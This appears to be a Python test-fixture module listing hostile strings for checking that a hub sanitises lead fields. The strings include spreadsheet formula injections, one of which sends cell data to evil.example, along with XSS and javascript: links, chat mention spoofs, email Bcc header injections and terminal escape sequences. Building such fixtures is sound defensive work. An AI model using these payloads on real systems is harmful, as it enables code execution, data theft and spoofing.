"""What strangers write into a lead's fields, by what it attacks. Every exit of the hub is run through all of it."""

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"click")', "\t=1+1", "\r=1+1",
    '=IMPORTXML("http://evil.example","//a")', "=WEBSERVICE(\"http://evil.example\")", "+1+1", "-@SUM(A1)",
    "+49*1", "==1", "@@x", "+=1",
)  # fmt: skip
LINKS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", "java\tscript:alert(1)",
    "\x01javascript:alert(1)", " javascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "file:///etc/passwd", "//evil.example",
    "\\\\evil.example\\share", "https://bank.example@evil.example/", "https:\\\\evil.example", "https://",
    "http://[::1", "blob:https://x/1", "intent://x#Intent;end", "ms-word:ofe|u|http://evil.example",
    "javascript&colon;alert(1)", "https://exa\u202emoc.elpmaxe", "\u200bjavascript:alert(1)",
    "feed:javascript:alert(1)", "view-source:https://x",
)  # fmt: skip
HTML = (
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)",
    "</title><svg onload=alert(1)>", "<!--", "-->", "]]>", "&lt;script&gt;",
    "<a href=javascript:alert(1)>x</a>", "` onerror=alert(1)", "{{7*7}}", "{% raw %}", "<\x00script>",
    "\u2028<script>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
)  # fmt: skip
CHAT = (
    "<!channel>", "<!here|all>", "<@U024BE7LH>", "<https://evil.example|https://bank.example>",
    "<mailto:a@b|x>", "&lt;!channel&gt;", "[bank](https://evil.example)", "![x](https://evil.example/p.png)",
    "[x]: https://evil.example", "**bold**", "`code`", "# heading", "- item", "1. item", "+ item", "> quote",
    "| a | b |", "~~gone~~", "a\n# b", "a\r\n- b", "<at>Everyone</at>", "___", "a\n===", "\u2028# heading",
)  # fmt: skip
HEADERS = (
    "Ana\r\nBcc: all@evil.example", "Ana\nBcc: all@evil.example", "Ana\rX: y", "Ana\r\n\r\n<script>",
    "Ana\u2028Bcc: x@y.example", "Ana\x85Bcc: x@y.example", "Ana\x00", "Ana\x0bBcc: x@y.example",
    "Ana\x0cBcc: x",
)  # fmt: skip
TERMINAL = (
    "\x1b[2J\x1b[H", "\x1b]0;owned\x07", "\x1b[31mred", "\x9b31m", "a\rforged", "a\nlevel=info event=login",
    "\x08\x08\x08", "\x7f", "\u202egnp.exe", "\u2066x\u2069", "\ud800", "\u200bzero", "\x00", "\x1bP$q\x1b\\",
    "a\x85b", "a\u2028b",
)  # fmt: skip
PLAIN = (
    "Ana Ruiz", "O'Brien & Söhne <GmbH>", "+49 30 23125001", "+12025550143", "a-b", "1-2", "50 %", "日本語", "Zoë",
    "", "'quoted'", "x=y", "e-mail me@example.com", "C:\\temp", "100% @home",
)  # fmt: skip
GOOD_LINKS = (
    "https://example.com", "http://example.com/a?b=c&d=e#f", "HTTPS://EXAMPLE.com/", "mailto:ana@example.com",
    "tel:+12025550143", "https://münchen.example/straße", "https://[2001:db8::1]:8443/x",
)  # fmt: skip
EVERYTHING = (*FORMULAS, *LINKS, *HTML, *CHAT, *HEADERS, *TERMINAL, *PLAIN, *GOOD_LINKS)
